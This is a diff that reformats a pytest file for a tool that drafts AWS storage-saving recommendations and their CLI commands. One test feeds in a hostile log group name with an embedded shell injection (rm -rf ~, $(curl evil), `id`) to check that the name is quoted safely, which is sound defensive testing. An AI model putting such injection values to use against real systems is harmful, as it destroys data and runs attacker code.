@@ -31,45 +31,95 @@ ENDPOINT_GROUP = "/aws/sagemaker/Endpoints/churn"
 
 # --- helpers ------------------------------------------------------------------------------------------------------
 
+
 def now_():
     return timezone.now()
 
 
-def log_group(acct, name, stored_bytes, days_ago=0, region="us-east-1", retention=None, cls="STANDARD",
-              created_days_ago=None):
+def log_group(
+    acct, name, stored_bytes, days_ago=0, region="us-east-1", retention=None, cls="STANDARD", created_days_ago=None
+):
     now = now_()
     created = None if created_days_ago is None else now - timedelta(days=created_days_ago)
-    return LogGroupSnapshot.objects.create(account=acct, region=region, name=name,
-                                           day=now.date() - timedelta(days=days_ago), stored_bytes=int(stored_bytes),
-                                           retention_days=retention, log_group_class=cls, created_time=created,
-                                           collected_at=now)
+    return LogGroupSnapshot.objects.create(
+        account=acct,
+        region=region,
+        name=name,
+        day=now.date() - timedelta(days=days_ago),
+        stored_bytes=int(stored_bytes),
+        retention_days=retention,
+        log_group_class=cls,
+        created_time=created,
+        collected_at=now,
+    )
 
 
 def lens(acct, bucket, prefix, stored_bytes, days_ago=0, region="us-east-1", storage_class="STANDARD"):
     return StorageLensDay.objects.update_or_create(
-        account=acct, day=now_().date() - timedelta(days=days_ago), bucket=bucket, prefix=prefix,
-        storage_class=storage_class, defaults={"region": region, "stored_bytes": int(stored_bytes),
-                                               "object_count": 10, "source": "export", "collected_at": now_()})[0]
+        account=acct,
+        day=now_().date() - timedelta(days=days_ago),
+        bucket=bucket,
+        prefix=prefix,
+        storage_class=storage_class,
+        defaults={
+            "region": region,
+            "stored_bytes": int(stored_bytes),
+            "object_count": 10,
+            "source": "export",
+            "collected_at": now_(),
+        },
+    )[0]
 
 
-def endpoint(acct, name, region="us-east-1", destination="s3://capture-bucket/datacapture", pct=100,
-             deleted=False, enabled=True, created_days_ago=60):
+def endpoint(
+    acct,
+    name,
+    region="us-east-1",
+    destination="s3://capture-bucket/datacapture",
+    pct=100,
+    deleted=False,
+    enabled=True,
+    created_days_ago=60,
+):
     now = now_()
-    return Endpoint.objects.create(account=acct, region=region, name=name, status="InService",
-                                   config_name=f"{name}-config-v1", capture_enabled=enabled, capture_pct=pct,
-                                   capture_destination=destination, first_seen=now, last_seen=now,
-                                   created_time=now - timedelta(days=created_days_ago),
-                                   deleted_at=now - timedelta(days=1) if deleted else None)
+    return Endpoint.objects.create(
+        account=acct,
+        region=region,
+        name=name,
+        status="InService",
+        config_name=f"{name}-config-v1",
+        capture_enabled=enabled,
+        capture_pct=pct,
+        capture_destination=destination,
+        first_seen=now,
+        last_seen=now,
+        created_time=now - timedelta(days=created_days_ago),
+        deleted_at=now - timedelta(days=1) if deleted else None,
+    )
 
 
 def expected_saving(service, storage_class, stored_bytes, region="us-east-1") -> dict:
     """A month of ``stored_bytes``, straight from the estimator and the price table."""
-    frame = pd.DataFrame([{"service": service, "storage_class": storage_class, "stored_bytes": float(stored_bytes),
-                           "hours": float(HOURS_PER_MONTH), "region": region}])
+    frame = pd.DataFrame(
+        [
+            {
+                "service": service,
+                "storage_class": storage_class,
+                "stored_bytes": float(stored_bytes),
+                "hours": float(HOURS_PER_MONTH),
+                "region": region,
+            }
+        ]
+    )
     out = estimate_storage(frame).iloc[0]
     price = storage_usd_per_gb_month(service, storage_class, region)
-    return {"kwh": out["storage_kwh"], "co2e_kg": out["co2e_kg"], "co2e_kg_low": out["co2e_kg_low"],
-            "co2e_kg_high": out["co2e_kg_high"], "usd": price * stored_bytes / GIB}
+    return {
+        "kwh": out["storage_kwh"],
+        "co2e_kg": out["co2e_kg"],
+        "co2e_kg_low": out["co2e_kg_low"],
+        "co2e_kg_high": out["co2e_kg_high"],
+        "usd": price * stored_bytes / GIB,
+    }
 
 
 def assert_saving(saving, expected: dict) -> None:
@@ -103,6 +153,7 @@ def other_acct(teams):
 
 # --- log retention ------------------------------------------------------------------------------------------------
 
+
 def test_log_retention_fires_on_a_never_expiring_group_with_growth_from_snapshots(team, acct):
     churn = endpoint(acct, "churn", destination="", pct=None, enabled=False)
     log_group(acct, ENDPOINT_GROUP, 20 * GIB, days_ago=10, created_days_ago=200)
@@ -127,13 +178,29 @@ def test_log_retention_fires_on_a_never_expiring_group_with_growth_from_snapshot
     assert draft.evidence_start.date() == today - timedelta(days=10) and draft.evidence_end.date() == today
     assert_saving(draft.saving, expected_saving("logs", "STANDARD", dropped))
     assert draft.saving.co2e_kg > 0 and draft.saving.usd == pytest.approx(0.03 * 10)  # USD 0.03 per GB-month
-    assert shlex.split(draft.cli_command) == ["aws", "logs", "put-retention-policy", "--log-group-name",
-                                              ENDPOINT_GROUP, "--retention-in-days", "30", "--region", "us-east-1"]
+    assert shlex.split(draft.cli_command) == [
+        "aws",
+        "logs",
+        "put-retention-policy",
+        "--log-group-name",
+        ENDPOINT_GROUP,
+        "--retention-in-days",
+        "30",
+        "--region",
+        "us-east-1",
+    ]
 
 
 def test_log_retention_from_the_age_counts_only_the_days_the_current_retention_keeps(team, acct):
-    log_group(acct, "/aws/sagemaker/TransformJobs", 9 * GIB, retention=90, cls="INFREQUENT_ACCESS",
-              created_days_ago=400, region="eu-west-1")
+    log_group(
+        acct,
+        "/aws/sagemaker/TransformJobs",
+        9 * GIB,
+        retention=90,
+        cls="INFREQUENT_ACCESS",
+        created_days_ago=400,
+        region="eu-west-1",
+    )
     [draft] = drafts_of(team, Kind.LOG_RETENTION)
     dropped = 9 * GIB - 9 * GIB / 90 * 30  # the data spans 90 days (the retention), not 400
     assert draft.evidence["basis"] == "age" and draft.confidence == "medium"
@@ -178,7 +245,8 @@ def test_log_retention_does_not_fire_when_small_already_short_gone_or_someone_el
     log_group(other_acct, "/app/other-team", 50 * GIB)
     assert drafts_of(team, Kind.LOG_RETENTION) == []
     assert [d.subject for d in drafts_of(team, Kind.LOG_RETENTION, log_min_bytes=GIB - 1)] == [
-        "log-group:111122223333/us-east-1//app/small"]
+        "log-group:111122223333/us-east-1//app/small"
+    ]
 
 
 def test_the_proposed_retention_is_the_longest_value_aws_accepts_within_the_policy(team, acct):
@@ -187,16 +255,22 @@ def test_the_proposed_retention_is_the_longest_value_aws_accepts_within_the_poli
     log_group(acct, "/app/never", 50 * GIB)
     log_group(acct, "/app/sixty", 50 * GIB, retention=60)
     log_group(acct, "/app/two-years", 50 * GIB, retention=731)
-    proposals = {policy: {d.subject.rsplit("/", 1)[1]: d.proposed["retention_days"]
-                          for d in drafts_of(team, Kind.LOG_RETENTION, log_retention_days=policy)}
-                 for policy in (45, 400, 2)}
-    assert proposals == {45: {"never": 30, "sixty": 30, "two-years": 30},
-                         400: {"never": 400, "two-years": 400},
-                         2: {"never": 1, "sixty": 1, "two-years": 1}}
+    proposals = {
+        policy: {
+            d.subject.rsplit("/", 1)[1]: d.proposed["retention_days"]
+            for d in drafts_of(team, Kind.LOG_RETENTION, log_retention_days=policy)
+        }
+        for policy in (45, 400, 2)
+    }
+    assert proposals == {
+        45: {"never": 30, "sixty": 30, "two-years": 30},
+        400: {"never": 400, "two-years": 400},
+        2: {"never": 1, "sixty": 1, "two-years": 1},
+    }
 
 
 def test_a_hostile_log_group_name_is_quoted_in_the_command(team, acct):
-    name = "/aws/x'; rm -rf ~ #$(curl evil) \"`id`\" && echo pwned\n|"
+    name = '/aws/x\'; rm -rf ~ #$(curl evil) "`id`" && echo pwned\n|'
     log_group(acct, name, 5 * GIB)
     [draft] = drafts_of(team, Kind.LOG_RETENTION)
     words = shlex.split(draft.cli_command)
@@ -205,6 +279,7 @@ def test_a_hostile_log_group_name_is_quoted_in_the_command(team, acct):
 
 
 # --- capture sampling ---------------------------------------------------------------------------------------------
+
 
 def capture_prefix(acct, name="clicks", bucket="capture-bucket", first=50 * GIB, last=60 * GIB, days=10):
     """A prefix growing 1 GiB a day by default, with a nested Storage Lens row that must not count twice."""
@@ -236,14 +311,23 @@ def test_capture_sampling_fires_at_100_percent_on_a_large_prefix(team, acct):
     assert_saving(draft.saving, expected_saving("s3", "STANDARD", avoided))
     assert "accumulates" in draft.caveats and "describe-endpoint-config" in draft.caveats
     create, update = argv(draft.cli_command)
-    assert create[:5] == ["aws", "sagemaker", "create-endpoint-config", "--endpoint-config-name",
-                          "clicks-capture10pct"]
+    assert create[:5] == ["aws", "sagemaker", "create-endpoint-config", "--endpoint-config-name", "clicks-capture10pct"]
     assert create[create.index("--data-capture-config") + 1] == (
         "EnableCapture=true,InitialSamplingPercentage=10,DestinationS3Uri=s3://capture-bucket/datacapture,"
-        "CaptureOptions=[{CaptureMode=Input},{CaptureMode=Output}]")
+        "CaptureOptions=[{CaptureMode=Input},{CaptureMode=Output}]"
+    )
     assert create[create.index("--production-variants") + 1] == "file://production-variants.json"
-    assert update == ["aws", "sagemaker", "update-endpoint", "--endpoint-name", "clicks",
-                      "--endpoint-config-name", "clicks-capture10pct", "--region", "us-east-1"]
+    assert update == [
+        "aws",
+        "sagemaker",
+        "update-endpoint",
+        "--endpoint-name",
+        "clicks",
+        "--endpoint-config-name",
+        "clicks-capture10pct",
+        "--region",
+        "us-east-1",
+    ]
 
 
 def test_capture_sampling_with_a_single_lens_day_assumes_two_weeks_of_growth(team, acct):
@@ -255,10 +339,14 @@ def test_capture_sampling_with_a_single_lens_day_assumes_two_weeks_of_growth(tea
     assert draft.proposed == {"capture_pct": 20}
 
 
-def test_capture_sampling_does_not_fire_when_already_sampled_small_deleted_off_or_someone_elses(team, acct,
-                                                                                                 other_acct):
-    for name, kwargs in {"sampled": {"pct": 20}, "deleted": {"deleted": True}, "off": {"enabled": False},
-                         "small": {}, "unmeasured": {}}.items():
+def test_capture_sampling_does_not_fire_when_already_sampled_small_deleted_off_or_someone_elses(team, acct, other_acct):
+    for name, kwargs in {
+        "sampled": {"pct": 20},
+        "deleted": {"deleted": True},
+        "off": {"enabled": False},
+        "small": {},
+        "unmeasured": {},
+    }.items():
         endpoint(acct, name, **kwargs)
         if name not in ("small", "unmeasured"):
             capture_prefix(acct, name)
@@ -268,8 +356,9 @@ def test_capture_sampling_does_not_fire_when_already_sampled_small_deleted_off_o
     endpoint(acct, "in-their-bucket", destination="s3://their-bucket/datacapture")
     capture_prefix(other_acct, "in-their-bucket", bucket="their-bucket")  # their account's Lens, not ours
     assert drafts_of(team, Kind.CAPTURE_SAMPLING) == []
-    assert [d.title.split(" on ")[1].split()[0] for d in drafts_of(team, Kind.CAPTURE_SAMPLING,
-                                                                   capture_min_bytes=GIB - 1)] == ["small"]
+    assert [
+        d.title.split(" on ")[1].split()[0] for d in drafts_of(team, Kind.CAPTURE_SAMPLING, capture_min_bytes=GIB - 1)
+    ] == ["small"]
 
 
 def test_an_awkward_destination_is_passed_as_json(team, acct):
@@ -283,6 +372,7 @@ def test_an_awkward_destination_is_passed_as_json(team, acct):
 
 
 # --- capture lifecycle --------------------------------------------------------------------------------------------
+
 
 def test_capture_lifecycle_proposes_an_expiry_for_a_large_standard_prefix(team, acct):
     clicks = endpoint(acct, "clicks", pct=20)
@@ -300,8 +390,14 @@ def test_capture_lifecycle_proposes_an_expiry_for_a_large_standard_prefix(team, 
     words = shlex.split(draft.cli_command)
     assert words[:5] == ["aws", "s3api", "put-bucket-lifecycle-configuration", "--bucket", "capture-bucket"]
     rules = json.loads(words[words.index("--lifecycle-configuration") + 1])["Rules"]
-    assert rules == [{"ID": "wattson-capture-expiry-clicks", "Status": "Enabled", "Filter": {"Prefix": prefix},
-                      "Expiration": {"Days": 30}}]
+    assert rules == [
+        {
+            "ID": "wattson-capture-expiry-clicks",
+            "Status": "Enabled",
+            "Filter": {"Prefix": prefix},
+            "Expiration": {"Days": 30},
+        }
+    ]
     [longer] = drafts_of(team, Kind.CAPTURE_LIFECYCLE, capture_expiry_days=45)
     assert longer.evidence["dropped_bytes"] == pytest.approx(standard - GIB * 45)
 
@@ -331,6 +427,7 @@ def test_a_deleted_endpoints_flat_captures_expire_entirely_once_old_enough(team,
 
 # --- queries ------------------------------------------------------------------------------------------------------
 
+
 def count_queries(team) -> int:
     with CaptureQueriesContext(connection) as queries:
         storage_drafts(team, TeamPolicy(team=team), now_())
@@ -355,7 +452,8 @@ def test_the_number_of_queries_does_not_grow_with_the_data(team, acct):
 
 # --- the sandbox fleet, collected ---------------------------------------------------------------------------------
 
-def test_the_rules_on_the_collected_sandbox_fleet(prod):  # noqa: F811
+
+def test_the_rules_on_the_collected_sandbox_fleet(prod):
     for region in prod.regions:
         runner.run(prod, region, "log_groups")
         runner.run(prod, region, "inventory")
@@ -364,10 +462,16 @@ def test_the_rules_on_the_collected_sandbox_fleet(prod):  # noqa: F811
     drafts = storage_drafts(team, policy, now_())
 
     snapshots = LogGroupSnapshot.objects.filter(account=prod)
-    never = {f"log-group:{prod.account_id}/{s.region}/{s.name}" for s in snapshots
-             if s.retention_days is None and s.stored_bytes >= GIB}
-    too_long = {f"log-group:{prod.account_id}/{s.region}/{s.name}" for s in snapshots
-                if s.retention_days is not None and s.retention_days > 30 and s.stored_bytes >= GIB}
+    never = {
+        f"log-group:{prod.account_id}/{s.region}/{s.name}"
+        for s in snapshots
+        if s.retention_days is None and s.stored_bytes >= GIB
+    }
+    too_long = {
+        f"log-group:{prod.account_id}/{s.region}/{s.name}"
+        for s in snapshots
+        if s.retention_days is not None and s.retention_days > 30 and s.stored_bytes >= GIB
+    }
     logs = {d.subject: d for d in drafts if d.kind == Kind.LOG_RETENTION}
     assert never and set(logs) == never | too_long
     training = logs[f"log-group:{prod.account_id}/us-east-1//aws/sagemaker/TrainingJobs"]
